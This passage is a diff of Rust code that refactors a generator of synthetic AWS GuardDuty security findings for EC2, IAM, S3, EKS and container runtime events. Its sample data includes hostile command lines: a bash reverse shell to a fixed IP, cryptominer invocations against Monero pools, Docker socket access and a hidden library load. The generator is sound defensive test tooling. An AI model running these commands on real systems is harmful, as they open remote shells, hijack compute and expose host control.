-    let probes: Vec<Value> = (0..rng.range(2, 4))
-        .map(|_| {
-            let (port, name) = ports[rng.index(ports.len())];
-            let ip = rng.public_ip();
-            json!({
-                "localPortDetails": { "port": port, "portName": name },
-                "localIpDetails": { "ipAddressV4": local_ip },
-                "remoteIpDetails": remote_ip_details(rng, &ip),
-            })
-        })
-        .collect();
-    let action = json!({
-        "actionType": "PORT_PROBE",
-        "portProbeAction": { "blocked": false, "portProbeDetails": probes },
-    });
-    let additional =
-        additional_info(json!({ "threatName": "Scanner", "threatListName": "ProofPoint" }));
-    Body {
-        kind: "Recon:EC2/PortProbeUnprotectedPort".to_owned(),
-        severity: {
-            let base = if rng.chance(70) { 2 } else { 5 };
-            severity(rng, base)
-        },
-        title: format!("Unprotected port on EC2 instance {instance} is being probed."),
-        description: format!(
-            "EC2 instance {instance} has an unprotected port which is being probed by a known malicious host. \
-             The security group attached to the instance allows inbound traffic on this port from 0.0.0.0/0; \
-             restrict it to the addresses that need it, or put the service behind a load balancer or AWS \
-             Systems Manager Session Manager."
-        ),
-        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
-        service: service(cx, "FlowLogs", action, additional, threat_intel(rng)),
-    }
-}
-
-fn ec2_inbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
-    let instance = instance_id(rng);
-    let remote = rng.public_ip();
-    let (kind, port, port_name, base) = rng.pick(&[
-        ("UnauthorizedAccess:EC2/SSHBruteForce", 22u64, "SSH", 2u64),
-        ("UnauthorizedAccess:EC2/RDPBruteForce", 3389, "RDP", 5),
-        ("Impact:EC2/PortSweep", 445, "SMB", 8),
-    ]);
-    let action = json!({
+fn network_connection(
+    rng: &mut Rng,
+    inbound: bool,
+    local_port: (u64, &str),
+    remote_port: (u64, &str),
+    remote_ip: &str,
+) -> Value {
+    json!({
         "actionType": "NETWORK_CONNECTION",
         "networkConnectionAction": {
-            "connectionDirection": "INBOUND",
+            "connectionDirection": if inbound { "INBOUND" } else { "OUTBOUND" },
             "blocked": false,
             "protocol": "TCP",
             "localIpDetails": { "ipAddressV4": rng.private_ip() },
-            "localPortDetails": { "port": port, "portName": port_name },
-            "remotePortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
-            "remoteIpDetails": remote_ip_details(rng, &remote),
+            "localPortDetails": { "port": local_port.0, "portName": local_port.1 },
+            "remotePortDetails": { "port": remote_port.0, "portName": remote_port.1 },
+            "remoteIpDetails": remote_ip_details(rng, remote_ip),
         },
-    });
-    Body {
-        kind: kind.to_owned(),
-        severity: severity(rng, base),
-        title: format!(
-            "{remote} is performing {port_name} brute force attacks against {instance}."
-        ),
-        description: format!(
-            "{remote} is performing {port_name} brute force attacks against {instance}. Brute force attacks are \
-             used to gain unauthorized access to your instance by guessing the {port_name} password. If the \
-             instance is not meant to accept {port_name} connections from the internet, remove the rule that \
-             allows them from its security group; otherwise check its authentication logs for a success."
-        ),
-        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
-        service: service(
-            cx,
-            "FlowLogs",
-            action,
-            additional_info(json!({})),
-            Value::Null,
-        ),
-    }
-}
-
-fn ec2_outbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
-    let instance = instance_id(rng);
-    let remote = rng.public_ip();
-    let (kind, port, base, what) = rng.pick(&[
-        (
-            "Backdoor:EC2/C&CActivity.B",
-            443u64,
-            8u64,
-            "a known command and control server",
-        ),
-        (
-            "CryptoCurrency:EC2/BitcoinTool.B",
-            3333,
-            5,
-            "an IP address associated with cryptocurrency mining",
-        ),
-        (
-            "UnauthorizedAccess:EC2/TorClient",
-            9001,
-            8,
-            "a Tor Guard or Authority node",
-        ),
-        (
-            "Trojan:EC2/BlackholeTraffic",
-            80,
-            5,
-            "a black hole IP address",
-        ),
-    ]);
-    let action = json!({
-        "actionType": "NETWORK_CONNECTION",
-        "networkConnectionAction": {
-            "connectionDirection": "OUTBOUND",
-            "blocked": false,
-            "protocol": "TCP",
-            "localIpDetails": { "ipAddressV4": rng.private_ip() },
-            "localPortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
-            "remotePortDetails": { "port": port, "portName": if port == 443 { "HTTPS" } else { "Unknown" } },
-            "remoteIpDetails": remote_ip_details(rng, &remote),
-        },
-    });
-    Body {
-        kind: kind.to_owned(),
-        severity: severity(rng, base),
-        title: format!("EC2 instance {instance} is communicating with {what}."),
-        description: format!(
-            "EC2 instance {instance} is communicating with {remote}, {what}. This can mean the instance is \
-             compromised and is receiving instructions or sending data; isolate it by moving it to a security \
-             group without egress, take a snapshot of its volumes for investigation, and rotate any credentials \
-             it could reach."
-        ),
-        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
-        service: service(
-            cx,
-            "FlowLogs",
-            action,
-            additional_info(json!({ "threatListName": "ProofPoint" })),
-            threat_intel(rng),
-        ),
-    }
-}
-
-fn ec2_dns_request(rng: &mut Rng, cx: &Ctx) -> Body {
-    let instance = instance_id(rng);
-    let label_len = 6 + rng.index(20);
-    let domain = format!(
-        "{}.{}",
-        rng.hex(label_len),
-        DOMAINS[rng.index(DOMAINS.len())]
-    );
-    let (kind, base) = rng.pick(&[
-        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8u64),
-        ("Trojan:EC2/DropPoint!DNS", 5),
-        ("Trojan:EC2/DNSDataExfiltration", 8),
-        ("Backdoor:EC2/C&CActivity.B!DNS", 8),
-        ("Impact:EC2/SuspiciousDomainRequest.Reputation", 2),
-    ]);
-    let action = json!({
-        "actionType": "DNS_REQUEST",
-        "dnsRequestAction": {
-            "domain": domain,
-            "domainWithSuffix": domain.split('.').rev().take(2).collect::<Vec<_>>().into_iter().rev().collect::<Vec<_>>().join("."),
-            "protocol": "UDP",
-            "blocked": false,
-        },
-    });
-    Body {
-        kind: kind.to_owned(),
-        severity: severity(rng, base),
-        title: format!("EC2 instance {instance} is querying a suspicious domain name."),
-        description: format!(
-            "EC2 instance {instance} is querying the domain name {domain}, which is associated with {}. \
-             Check which process on the instance resolved it (GuardDuty Runtime Monitoring or the VPC \
-             Route 53 Resolver query logs show it), and whether that software is expected to run there.",
-            if kind.starts_with("Crypto") {
-                "cryptocurrency-related activity"
-            } else {
-                "malware command and control"
-            }
-        ),
-        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
-        service: service(
-            cx,
-            "DnsLogs",
-            action,
-            additional_info(json!({ "domain": domain })),
-            threat_intel(rng),
-        ),
-    }
+    })
 }
 
 fn api_call(rng: &mut Rng, api: &str, service_name: &str, ip: &str, user_agent: &str) -> Value {
@@ -1153,16 +1018,216 @@ fn api_call(rng: &mut Rng, api: &str, service_name: &str, ip: &str, user_agent: 
     json!({ "actionType": "AWS_API_CALL", "awsApiCallAction": call })
 }
 
+/// The first `:`-separated part of a finding type: its threat purpose.
+fn purpose(kind: &str) -> &str {
+    kind.split(':').next().unwrap_or(kind)
+}
+
+// --- templates -------------------------------------------------------------------------------
+
+fn ec2_port_probe(rng: &mut Rng, cx: &Ctx) -> Body {
+    const PORTS: [(u64, &str); 8] = [
+        (22, "SSH"),
+        (3389, "RDP"),
+        (80, "HTTP"),
+        (443, "HTTPS"),
+        (5432, "POSTGRESQL"),
+        (3306, "MYSQL"),
+        (6379, "Unknown"),
+        (9200, "Unknown"),
+    ];
+    let (instance, details) = instance(rng, cx);
+    let local_ip = rng.private_ip();
+    let probes: Vec<Value> = (0..rng.range(2, 4))
+        .map(|_| {
+            let (port, name) = rng.pick(&PORTS);
+            let ip = rng.public_ip();
+            json!({
+                "localPortDetails": { "port": port, "portName": name },
+                "localIpDetails": { "ipAddressV4": local_ip },
+                "remoteIpDetails": remote_ip_details(rng, &ip),
+            })
+        })
+        .collect();
+    let action = json!({
+        "actionType": "PORT_PROBE",
+        "portProbeAction": { "blocked": false, "portProbeDetails": probes },
+    });
+    let additional =
+        additional_info(json!({ "threatName": "Scanner", "threatListName": "ProofPoint" }));
+    let base = if rng.chance(70) { 2 } else { 5 };
+    Body {
+        kind: "Recon:EC2/PortProbeUnprotectedPort".to_owned(),
+        severity: severity(rng, base),
+        title: format!("Unprotected port on EC2 instance {instance} is being probed."),
+        description: format!(
+            "EC2 instance {instance} has an unprotected port which is being probed by a known \
+             malicious host. The security group attached to the instance allows inbound traffic \
+             on this port from 0.0.0.0/0; restrict it to the addresses that need it, or put the \
+             service behind a load balancer or AWS Systems Manager Session Manager."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
+        service: service(cx, "FlowLogs", action, additional, threat_intel(rng)),
+    }
+}
+
+fn ec2_inbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (instance, details) = instance(rng, cx);
+    let remote = rng.public_ip();
+    let (kind, port, port_name, base) = rng.pick(&[
+        ("UnauthorizedAccess:EC2/SSHBruteForce", 22, "SSH", 2),
+        ("UnauthorizedAccess:EC2/RDPBruteForce", 3389, "RDP", 5),
+        ("Impact:EC2/PortSweep", 445, "SMB", 8),
+    ]);
+    let ephemeral = rng.range(32768, 60999);
+    let action = network_connection(
+        rng,
+        true,
+        (port, port_name),
+        (ephemeral, "Unknown"),
+        &remote,
+    );
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!(
+            "{remote} is performing {port_name} brute force attacks against {instance}."
+        ),
+        description: format!(
+            "{remote} is performing {port_name} brute force attacks against {instance}. Brute \
+             force attacks are used to gain unauthorized access to your instance by guessing the \
+             {port_name} password. If the instance is not meant to accept {port_name} connections \
+             from the internet, remove the rule that allows them from its security group; \
+             otherwise check its authentication logs for a success."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
+        service: service(
+            cx,
+            "FlowLogs",
+            action,
+            additional_info(json!({})),
+            Value::Null,
+        ),
+    }
+}
+
+fn ec2_outbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (instance, details) = instance(rng, cx);
+    let remote = rng.public_ip();
+    let (kind, port, base, what) = rng.pick(&[
+        (
+            "Backdoor:EC2/C&CActivity.B",
+            443,
+            8,
+            "a known command and control server",
+        ),
+        (
+            "CryptoCurrency:EC2/BitcoinTool.B",
+            3333,
+            5,
+            "an IP address used for cryptocurrency mining",
+        ),
+        (
+            "UnauthorizedAccess:EC2/TorClient",
+            9001,
+            8,
+            "a Tor Guard or Authority node",
+        ),
+        (
+            "Trojan:EC2/BlackholeTraffic",
+            80,
+            5,
+            "a black hole IP address",
+        ),
+    ]);
+    let ephemeral = rng.range(32768, 60999);
+    let port_name = if port == 443 { "HTTPS" } else { "Unknown" };
+    let action = network_connection(
+        rng,
+        false,
+        (ephemeral, "Unknown"),
+        (port, port_name),
+        &remote,
+    );
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("EC2 instance {instance} is communicating with {what}."),
+        description: format!(
+            "EC2 instance {instance} is communicating with {remote}, {what}. This can mean the \
+             instance is compromised and is receiving instructions or sending data; isolate it \
+             by moving it to a security group without egress, snapshot its volumes for \
+             investigation, and rotate any credentials it could reach."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
+        service: service(
+            cx,
+            "FlowLogs",
+            action,
+            additional_info(json!({ "threatListName": "ProofPoint" })),
+            threat_intel(rng),
+        ),
+    }
+}
+
+fn ec2_dns_request(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (instance, details) = instance(rng, cx);
+    let label_len = 6 + rng.index(20);
+    let suffix = rng.pick(&DOMAINS);
+    let domain = format!("{}.{suffix}", rng.hex(label_len));
+    let (kind, base) = rng.pick(&[
+        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8),
+        ("Trojan:EC2/DropPoint!DNS", 5),
+        ("Trojan:EC2/DNSDataExfiltration", 8),
+        ("Backdoor:EC2/C&CActivity.B!DNS", 8),
+        ("Impact:EC2/SuspiciousDomainRequest.Reputation", 2),
+    ]);
+    let with_suffix = suffix.rsplitn(3, '.').take(2).collect::<Vec<_>>();
+    let action = json!({
+        "actionType": "DNS_REQUEST",
+        "dnsRequestAction": {
+            "domain": domain,
+            "domainWithSuffix": format!("{}.{}", with_suffix[1], with_suffix[0]),
+            "protocol": "UDP",
+            "blocked": false,
+        },
+    });
+    let associated = if kind.starts_with("Crypto") {
+        "cryptocurrency-related activity"
+    } else {
+        "malware command and control"
+    };
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("EC2 instance {instance} is querying a suspicious domain name."),
+        description: format!(
+            "EC2 instance {instance} is querying the domain name {domain}, which is associated \
+             with {associated}. Check which process on the instance resolved it (GuardDuty \
+             Runtime Monitoring or the Route 53 Resolver query logs of the VPC show it), and \
+             whether that software is expected to run there."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": details }),
+        service: service(
+            cx,
+            "DnsLogs",
+            action,
+            additional_info(json!({ "domain": domain })),
+            threat_intel(rng),
+        ),
+    }
+}
+
 fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
-    let (key, user) = access_key_details(rng);
+    let (key_details, user) = access_key(rng, cx);
     let ip = rng.public_ip();
-    let agent = USER_AGENTS[rng.index(USER_AGENTS.len())];
+    let agent = rng.pick(&USER_AGENTS);
     let (kind, api, svc, base) = rng.pick(&[
         (
             "Discovery:IAMUser/AnomalousBehavior",
             "ListAttachedRolePolicies",
             "iam.amazonaws.com",
-            2u64,
+            2,
         ),
         (
             "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
@@ -1197,10 +1262,14 @@ fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
         "DescribeInstances",
         api,
     ];
+    let anomalous = &apis[rng.index(apis.len())..];
+    let category = if agent.contains("kali") {
+        "KALI_LINUX"
+    } else {
+        "CLI"
+    };
     let additional = additional_info(json!({
-        "anomalies": {
-            "anomalousAPIs": format!("{svc}:{{{}}}", apis[rng.index(apis.len())..].join(", ")),
-        },
+        "anomalies": { "anomalousAPIs": format!("{svc}:{{{}}}", anomalous.join(", ")) },
         "profiledBehavior": {
             "rareProfiledAPIsAccountProfiling": apis[..3].join(", "),
             "infrequentProfiledUserAgentsAccountProfiling": "aws-internal/3, console.amazonaws.com",
@@ -1213,7 +1282,7 @@ fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
             "unusualASNsUserIdentity": GEOS[rng.index(GEOS.len())].asn,
             "unusualUserAgentsUserIdentity": agent,
         },
-        "userAgent": { "fullUserAgent": agent, "userAgentCategory": if agent.contains("kali") { "KALI_LINUX" } else { "CLI" } },
+        "userAgent": { "fullUserAgent": agent, "userAgentCategory": category },
     }));
     Body {
         kind: kind.to_owned(),
@@ -1222,13 +1291,14 @@ fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
             "The API {api} was invoked using credentials of {user} in an anomalous way."
         ),
         description: format!(
-            "APIs commonly used to {} were invoked by {user} under unusual circumstances, from {ip} with user \
-             agent {agent}. Such activity is not typically seen from this principal: confirm with its owner, and if \
-             it was not them, deactivate the access key, revoke active sessions and review CloudTrail for what \
-             else the key did.",
-            kind.split(':').next().unwrap_or("act")
+            "APIs commonly used in {} tactics were invoked by {user} under unusual \
+             circumstances, from {ip} with user agent {agent}. Such activity is not typically \
+             seen from this principal: confirm with its owner, and if it was not them, deactivate \
+             the access key, revoke active sessions and review CloudTrail for what else the key \
+             did.",
+            purpose(kind)
         ),
-        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key }),
+        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key_details }),
         service: service(
             cx,
             "CloudTrail",
@@ -1240,14 +1310,14 @@ fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
 }
 
 fn access_key_stealth(rng: &mut Rng, cx: &Ctx) -> Body {
-    let (key, user) = access_key_details(rng);
+    let (key_details, user) = access_key(rng, cx);
     let ip = rng.public_ip();
     let (kind, api, svc, base, agent) = rng.pick(&[
         (
             "Stealth:IAMUser/CloudTrailLoggingDisabled",
             "StopLogging",
             "cloudtrail.amazonaws.com",
-            2u64,
+            2,
             USER_AGENTS[0],
         ),
         (
@@ -1284,11 +1354,11 @@ fn access_key_stealth(rng: &mut Rng, cx: &Ctx) -> Body {
         severity: severity(rng, base),
         title: format!("API {api} was invoked by {user} from {ip}."),
         description: format!(
-            "The API {api} of {svc} was invoked by {user} from {ip} using {agent}. Calls like this one are \
-             used to evade detection or probe an account; if this was not a planned change or an authorised \
-             penetration test, treat the credentials as compromised."
+            "The API {api} of {svc} was invoked by {user} from {ip} using {agent}. Calls like \
+             this one are used to evade detection or probe an account; if this was not a planned \
+             change or an authorised penetration test, treat the credentials as compromised."
         ),
-        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key }),
+        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key_details }),
         service: service(
             cx,
             "CloudTrail",
@@ -1302,24 +1372,22 @@ fn access_key_stealth(rng: &mut Rng, cx: &Ctx) -> Body {
 }
 
 fn block_public_access(all: bool) -> Value {
-    json!({ "blockPublicAcls": all, "blockPublicPolicy": all, "ignorePublicAcls": all, "restrictPublicBuckets": all })
+    json!({
+        "blockPublicAcls": all,
+        "blockPublicPolicy": all,
+        "ignorePublicAcls": all,
+        "restrictPublicBuckets": all,
+    })
 }
 
 fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
-    let (key, user) = access_key_details(rng);
-    let app = APPS[rng.index(APPS.len())];
-    let bucket = format!(
-        "{app}-{}-{}-{}",
-        rng.pick(&["logs", "artifacts", "exports", "backups", "uploads"]),
-        cx.account,
-        cx.region
-    );
+    let (key_details, user) = access_key(rng, cx);
     let ip = rng.public_ip();
     let (kind, api, base) = rng.pick(&[
         (
             "Policy:S3/BucketBlockPublicAccessDisabled",
             "PutBucketPublicAccessBlock",
-            2u64,
+            2,
         ),
         ("Exfiltration:S3/AnomalousBehavior", "GetObject", 8),
         ("UnauthorizedAccess:S3/TorIPCaller", "ListObjects", 5),
@@ -1327,16 +1395,23 @@ fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
         ("Discovery:S3/AnomalousBehavior", "GetBucketPolicy", 2),
     ]);
     let public = kind.starts_with("Policy");
+
+    let mut r = cx.resource(rng, "bucket", 12);
+    let app = r.pick(&APPS);
+    let purpose_name = r.pick(&["logs", "artifacts", "exports", "backups", "uploads"]);
+    let bucket = format!("{app}-{purpose_name}-{}-{}", cx.account, cx.region);
+    let owner = Rng::keyed(&[cx.account_seed, key("canonical-user")]).hex(64);
+    let kms = Rng::keyed(&[cx.account_seed, key("kms"), key(cx.region)]).uuid();
     let bucket_details = json!({
         "arn": format!("arn:aws:s3:::{bucket}"),
         "name": bucket,
         "type": "Destination",
-        "createdAt": epoch_before(rng, cx.first_seen, 1500),
-        "owner": { "id": rng.hex(64) },
-        "tags": tags(rng, &bucket, 5..=11),
+        "createdAt": epoch_before(&mut r, EPOCH_START, 1500),
+        "owner": { "id": owner },
+        "tags": tags(&mut r, &bucket, app, 5..=11),
         "defaultServerSideEncryption": {
             "encryptionType": "aws:kms",
-            "kmsMasterKeyArn": format!("arn:aws:kms:{}:{}:key/{}-{}-{}-{}-{}", cx.region, cx.account, rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+            "kmsMasterKeyArn": cx.arn("kms", &format!("key/{kms}")),
         },
         "publicAccess": {
             "effectivePermission": if public { "PUBLIC" } else { "NOT_PUBLIC" },
@@ -1350,7 +1425,7 @@ fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
             },
         },
     });
-    let agent = USER_AGENTS[rng.index(USER_AGENTS.len())];
+    let agent = rng.pick(&USER_AGENTS);
     let mut action = api_call(rng, api, "s3.amazonaws.com", &ip, agent);
     action["awsApiCallAction"]["affectedResources"] = json!({ "AWS::S3::Bucket": bucket });
     Body {
@@ -1358,11 +1433,16 @@ fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
         severity: severity(rng, base),
         title: format!("{api} was called on S3 bucket {bucket} by {user}."),
         description: format!(
-            "The S3 API {api} was invoked by {user} from {ip} against bucket {bucket}, in an unusual way for this \
-             principal and bucket. Review the bucket's access logs and CloudTrail data events for the objects that \
-             were read or changed, and block the caller if the activity was not expected."
+            "The S3 API {api} was invoked by {user} from {ip} against bucket {bucket}, in a way \
+             that is unusual for this principal and bucket. Review the bucket's server access \
+             logs and the CloudTrail data events for the objects that were read or changed, and \
+             block the caller if the activity was not expected."
         ),
-        resource: json!({ "resourceType": "S3Bucket", "accessKeyDetails": key, "s3BucketDetails": [bucket_details] }),
+        resource: json!({
+            "resourceType": "S3Bucket",
+            "accessKeyDetails": key_details,
+            "s3BucketDetails": [bucket_details],
+        }),
         service: service(
             cx,
             "S3DataEvents",
@@ -1373,42 +1453,42 @@ fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
     }
 }
 
-fn eks_cluster_details(rng: &mut Rng, cx: &Ctx, cluster: &str) -> Value {
-    json!({
-        "name": cluster,
-        "arn": format!("arn:aws:eks:{}:{}:cluster/{cluster}", cx.region, cx.account),
-        "createdAt": epoch_before(rng, cx.first_seen, 700),
-        "vpcId": format!("vpc-{}", rng.hex(17)),
-        "status": "ACTIVE",
-        "tags": tags(rng, cluster, 4..=9),
-    })
-}
-
 fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
-    let cluster = format!(
-        "{}-{}",
-        rng.pick(&["prod", "staging", "shared", "ml"]),
-        rng.pick(&["eks", "k8s", "platform"])
-    );
-    let ip = rng.public_ip();
     let (kind, verb, uri, base) = rng.pick(&[
-        ("Discovery:Kubernetes/SuccessfulAnonymousAccess", "get", "/api/v1/namespaces/kube-system/secrets", 5u64),
+        ("Discovery:Kubernetes/SuccessfulAnonymousAccess", "get", "/api/v1/namespaces/kube-system/secrets", 5),
         ("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "create", "/api/v1/namespaces/default/pods", 5),
         ("Execution:Kubernetes/ExecInKubeSystemPod", "create", "/api/v1/namespaces/kube-system/pods/aws-node-7xk2p/exec?command=sh&command=-c&command=id&stdin=true", 5),
         ("Persistence:Kubernetes/ContainerWithSensitiveMount", "create", "/apis/apps/v1/namespaces/default/deployments", 5),
         ("Impact:Kubernetes/MaliciousIPCaller", "list", "/api/v1/secrets", 8),
     ]);
-    let workload = format!("{}-{}", APPS[rng.index(APPS.len())], rng.hex(5));
+    let ip = rng.public_ip();
+    let app = rng.pick(&APPS);
+    let workload = format!("{app}-{}", rng.hex(5));
     let user = if kind.starts_with("Discovery") {
         "system:anonymous".to_owned()
     } else {
         format!(
             "arn:aws:sts::{}:assumed-role/{}/{}",
             cx.account,
-            ROLE_NAMES[rng.index(ROLE_NAMES.len())],
-            USER_NAMES[rng.index(USER_NAMES.len())]
+            rng.pick(&ROLE_NAMES),
+            rng.pick(&USER_NAMES)
         )
     };
+
+    let mut r = cx.resource(rng, "eks", 3);
+    let cluster = format!(
+        "{}-{}",
+        r.pick(&["prod", "staging", "shared", "ml"]),
+        r.pick(&["eks", "k8s", "platform"])
+    );
+    let cluster_details = json!({
+        "name": cluster,
+        "arn": cx.arn("eks", &format!("cluster/{cluster}")),
+        "createdAt": epoch_before(&mut r, EPOCH_START, 700),
+        "vpcId": format!("vpc-{}", r.hex(17)),
+        "status": "ACTIVE",
+        "tags": tags(&mut r, &cluster, "platform", 4..=9),
+    });
     let kubernetes = json!({
         "kubernetesUserDetails": {
             "username": user,
@@ -1418,13 +1498,13 @@ fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
         "kubernetesWorkloadDetails": {
             "name": workload,
             "type": "pods",
-            "uid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+            "uid": rng.uuid(),
             "namespace": rng.pick(&["default", "kube-system", "payments", "monitoring"]),
             "hostNetwork": rng.chance(20),
             "containers": [{
                 "name": "app",
-                "image": format!("{}.dkr.ecr.{}.amazonaws.com/{}:{}", cx.account, cx.region, APPS[rng.index(APPS.len())], rng.hex(7)),
-                "imagePrefix": format!("{}.dkr.ecr.{}.amazonaws.com", cx.account, cx.region),
+                "image": format!("{}/{app}:{}", cx.ecr(), rng.hex(7)),
+                "imagePrefix": cx.ecr(),
                 "securityContext": { "privileged": kind.contains("Privileged") },
                 "volumeMounts": [{ "name": "host-root", "mountPath": "/host" }],
             }],
@@ -1448,14 +1528,14 @@ fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
         severity: severity(rng, base),
         title: format!("Kubernetes API {verb} {uri} invoked on EKS cluster {cluster}."),
         description: format!(
-            "The Kubernetes API {verb} {uri} was invoked on EKS cluster {cluster} by {user} from {ip}. This API is \
-             commonly used in {} tactics. Check the cluster's audit log for the rest of this user's requests \
-             and the workload {workload} it touched.",
-            kind.split(':').next().unwrap_or("attack")
+            "The Kubernetes API {verb} {uri} was invoked on EKS cluster {cluster} by {user} from \
+             {ip}. This API is commonly used in {} tactics. Check the cluster's audit log for the \
+             rest of this user's requests and for the workload {workload} it touched.",
+            purpose(kind)
         ),
         resource: json!({
             "resourceType": "EKSCluster",
-            "eksClusterDetails": eks_cluster_details(rng, cx, &cluster),
+            "eksClusterDetails": cluster_details,
             "kubernetesDetails": kubernetes,
         }),
         service: service(
@@ -1469,24 +1549,21 @@ fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
 }
 
 fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
-    let domain = DOMAINS[rng.index(DOMAINS.len())];
     let (kind, exe, command_line, base) = rng.pick(&[
-        ("Execution:Runtime/NewBinaryExecuted", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd -o pool.supportxmr.com:443 -u 4AdUndXHHZ9pfQj27iMAjAr --tls --cpu-max-threads-hint=75", 5u64),
+        ("Execution:Runtime/NewBinaryExecuted", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd -o pool.supportxmr.com:443 -u 4AdUndXHHZ9pfQj27iMAjAr --tls --cpu-max-threads-hint=75", 5),
         ("CryptoCurrency:Runtime/BitcoinTool.B!DNS", "/usr/bin/xmrig", "xmrig --donate-level 1 -o gulf.moneroocean.stream:10128 -k --coin monero", 8),
         ("Execution:Runtime/ReverseShell", "/bin/bash", "bash -c \"bash -i >& /dev/tcp/185.220.101.7/4444 0>&1\"", 8),
         ("PrivilegeEscalation:Runtime/DockerSocketAccessed", "/usr/bin/curl", "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json?all=1", 5),
         ("DefenseEvasion:Runtime/ProcessInjection.Proc", "/usr/bin/python3", "python3 -c 'import ctypes; ctypes.CDLL(\"/dev/shm/.l.so\")'", 8),
     ]);
+    let domain = rng.pick(&DOMAINS);
     let pid = rng.range(300, 65_000);
-    let parent = format!(
-        "{}-{}-{}-{}-{}",
-        rng.hex(8),
-        rng.hex(4),
-        rng.hex(4),
-        rng.hex(4),
-        rng.hex(12)
-    );
-    let lineage: Vec<Value> = [("containerd-shim", "/usr/bin/containerd-shim-runc-v2"), ("sh", "/bin/sh"), ("node", "/usr/local/bin/node")]
+    let ancestors = [
+        ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
+        ("sh", "/bin/sh"),
+        ("node", "/usr/local/bin/node"),
+    ];
+    let lineage: Vec<Value> = ancestors
         .iter()
         .map(|(name, path)| {
             json!({
@@ -1494,11 +1571,11 @@ fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
                 "executablePath": path,
                 "pid": rng.range(1, 65_000),
                 "namespacePid": rng.range(1, 300),
-                "uuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
-                "parentUuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+                "uuid": rng.uuid(),
+                "parentUuid": rng.uuid(),
                 "euid": 0,
                 "userId": 0,
-                "startTime": iso_s(before(rng, cx.first_seen, 3)),
+                "startTime": iso_s(cx.first_seen - 3600 - rng.secs(3 * 86_400)),
             })
         })
         .collect();
@@ -1514,8 +1591,8 @@ fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
             "userId": 0,
             "user": "root",
             "pwd": rng.pick(&["/app", "/", "/tmp", "/var/www/html"]),
-            "uuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
-            "parentUuid": parent,
+            "uuid": rng.uuid(),
+            "parentUuid": rng.uuid(),
             "startTime": iso_s(cx.first_seen - 5),
             "lineage": lineage,
         },
@@ -1524,11 +1601,10 @@ fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
             "socketPath": if kind.contains("Docker") { json!("/var/run/docker.sock") } else { Value::Null },
         },
     });
-    let app = APPS[rng.index(APPS.len())];
+    let app = rng.pick(&APPS);
     let image = format!(
-        "{}.dkr.ecr.{}.amazonaws.com/{app}:{}.{}.{}",
-        cx.account,
-        cx.region,
+        "{}/{app}:{}.{}.{}",
+        cx.ecr(),
         rng.below(5),
         rng.below(40),
         rng.below(10)
@@ -1538,11 +1614,11 @@ fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
         "id": rng.hex(64),
         "name": app,
         "image": image,
-        "imagePrefix": format!("{}.dkr.ecr.{}.amazonaws.com", cx.account, cx.region),
+        "imagePrefix": cx.ecr(),
         "securityContext": { "privileged": rng.chance(15), "allowPrivilegeEscalation": rng.chance(40) },
         "volumeMounts": [{ "name": "tmp", "mountPath": "/tmp" }, { "name": "config", "mountPath": "/etc/app" }],
     });
-    let instance = instance_id(rng);
